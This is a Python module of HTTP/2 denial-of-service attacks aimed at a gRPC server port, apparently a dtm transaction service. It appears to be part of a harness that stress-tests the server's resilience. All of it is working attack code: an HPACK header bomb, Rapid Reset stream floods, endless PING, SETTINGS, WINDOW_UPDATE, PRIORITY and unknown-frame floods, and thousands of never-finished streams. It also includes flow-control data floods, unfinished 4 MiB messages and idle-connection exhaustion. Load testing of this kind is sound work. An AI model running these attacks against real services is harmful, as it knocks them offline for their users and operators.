"""Attacks on the gRPC port."""

import collections
import struct

from .attack import Attack, summary
from .frames import (DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST_ENTRY, PING, PRIORITY,
                     RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, call_head, frame, literal,
                     remembered)

SUBMIT = b"/dtmgimp.Dtm/Submit"
NEW_GID = b"/dtmgimp.Dtm/NewGid"
WATCH = b"/grpc.health.v1.Health/Watch"
CHUNK_BYTES = 16_000


class OnConnections(Attack):
    """Repeats an attack on a few connections in turn. A connection that the server ended is
    replaced."""

    connections = 2

    def begin(self):
        ends = collections.Counter()
        peers = [self.connect() for _ in range(self.connections)]
        while self.goes_on():
            for index, peer in enumerate(peers):
                if peer.ended_by is None:
                    self.send_some(peer)
                    peer.receive()
                if peer.ended_by:
                    ends[peer.ended_by] += 1
                    peer.close()
                    peers[index] = self.connect()
        for peer in peers:
            peer.close()
        return summary(ends)

    def connect(self):
        peer = Connection(self.server.grpc_port)
        peer.receive(1)
        return peer

    def send_some(self, peer):
        raise NotImplementedError


class HpackBomb(OnConnections):
    name = "hpack_bomb"
    does = "header blocks of 14 KB that stand for 49 MB"

    def send_some(self, peer):
        block = call_head(NEW_GID) + remembered(b"x", b"b" * 3500) + NEWEST_ENTRY * 12_000
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, peer.next_stream(), block))


class RapidReset(OnConnections):
    name = "rapid_reset"
    does = "calls that are reset as soon as they are sent"

    def send_some(self, peer):
        streams = [peer.next_stream() for _ in range(100)]
        head = call_head(NEW_GID)
        peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, head) +
                           frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                           for stream in streams))


class Idling(OnConnections):
    """Frames that are allowed and useless."""

    octets = b""

    def send_some(self, peer):
        peer.send(self.octets * (CHUNK_BYTES // len(self.octets)))


class Pings(Idling):
    name = "pings"
    does = "PING frames without end"
    octets = frame(PING, 0, 0, bytes(8))


class SettingsFrames(Idling):
    name = "settings"
    does = "SETTINGS frames without end"
    octets = frame(SETTINGS, 0, 0)


class WindowUpdates(Idling):
    name = "window_updates"
    does = "windows that grow by 1"
    octets = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


class Priorities(Idling):
    name = "priorities"
    does = "PRIORITY frames without end"
    octets = frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 1]))


class UnknownFrames(Idling):
    name = "unknown_frames"
    does = "frames of a kind that nobody knows"
    octets = frame(0xEE, 0, 0)


class EmptyData(OnConnections):
    name = "empty_data"
    does = "empty DATA frames on an open call"

    def connect(self):
        peer = super().connect()
        peer.send(frame(HEADERS, END_HEADERS, peer.next_stream(), call_head(SUBMIT)))
        return peer

    def send_some(self, peer):
        peer.send(frame(DATA, 0, 1) * (CHUNK_BYTES // 9))


class OpenStreams(Attack):
    name = "open_streams"
    does = "300 connections with 1,000 open calls each, none of which is ever finished"
    connections = 300
    streams = 1000

    def begin(self):
        ends = collections.Counter()
        peers = []
        head = call_head(SUBMIT)
        while self.goes_on() and len(peers) < self.connections:
            try:
                peer = Connection(self.server.grpc_port)
            except OSError as error:
                ends[type(error).__name__] += 1
                break
            peers.append(peer)
            peer.receive(1)
            peer.send(b"".join(frame(HEADERS, END_HEADERS, peer.next_stream(), head)
                               for _ in range(self.streams)))
        while self.goes_on():
            for peer in peers:
                peer.receive(min(0.01, self.left_s()))
        for peer in peers:
            if peer.ended_by:
                ends[peer.ended_by] += 1
            ends["refused call"] += len(peer.answered)
            peer.close()
        return summary(+ends)


class Flood(Attack):
    """Calls that send as much as flow control allows and never end."""

    connections = 8
    streams = 100
    path = SUBMIT
    first = b""     # the first octets of each stream
    octets = b""    # sent again and again, in chunks
    per_stream = 1 << 20

    def begin(self):
        peers = [Connection(self.server.grpc_port) for _ in range(self.connections)]
        sent = 0
        for peer in peers:
            peer.receive(1)
            sent += self.fill(peer)
        while self.goes_on():
            for peer in peers:
                peer.receive(0.05)
        ends = collections.Counter(peer.ended_by for peer in peers if peer.ended_by)
        ends["refused call"] += sum(len(peer.answered) for peer in peers)
        for peer in peers:
            peer.close()
        return f"{sent >> 20} MB sent; {summary(+ends)}"

    def fill(self, peer):
        sent = 0
        chunk = self.octets * (CHUNK_BYTES // len(self.octets))
        for _ in range(self.streams):
            stream = peer.next_stream()
            head = frame(HEADERS, END_HEADERS, stream, call_head(self.path))
            if not self.goes_on() or not peer.send(head + frame(DATA, 0, stream, self.first)):
                break
            peer.window -= len(self.first)
            for _ in range(self.per_stream // len(chunk) - 1):
                peer.receive()
                if stream in peer.answered or not peer.wait_for_window(len(chunk)):
                    break
                peer.send(frame(DATA, 0, stream, chunk))
                peer.window -= len(chunk)
                sent += len(chunk)
        return sent


class EmptyMessages(Flood):
    name = "empty_messages"
    does = "empty messages on streams of Health/Watch, which reads one"
    path = WATCH
    octets = bytes(5)


class UnfinishedMessages(Flood):
    name = "unfinished_messages"
    does = "requests of 4 MiB without their ends"
    first = struct.pack(">BI", 0, (4 << 20) - 1)
    octets = b"x"


class ManyFields(OnConnections):
    name = "many_fields"
    does = "header blocks of 3,000 small fields"

    def send_some(self, peer):
        block = call_head(NEW_GID) + literal(b"a", b"b") * 3_000
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, peer.next_stream(), block))


class IdleConnections(Attack):
    name = "idle_http2"
    does = "connections that say nothing, as many as the server takes"
    descriptors = 1024
    count = 2000

    def begin(self):
        ends = collections.Counter()
        peers = []
        while self.goes_on() and len(peers) < self.count:
            try:
                peers.append(Connection(self.server.grpc_port))
            except OSError as error:
                ends[type(error).__name__] += 1
                break
        while self.goes_on():
            for peer in peers:
                if not peer.ended_by:
                    peer.receive(min(0.001, self.left_s()))
        ends.update(peer.ended_by for peer in peers if peer.ended_by)
        for peer in peers:
            peer.close()
        return summary(ends)


ATTACKS = [HpackBomb, ManyFields, RapidReset, Pings, SettingsFrames, WindowUpdates, Priorities,
           UnknownFrames, EmptyData, OpenStreams, EmptyMessages, UnfinishedMessages,
           IdleConnections]
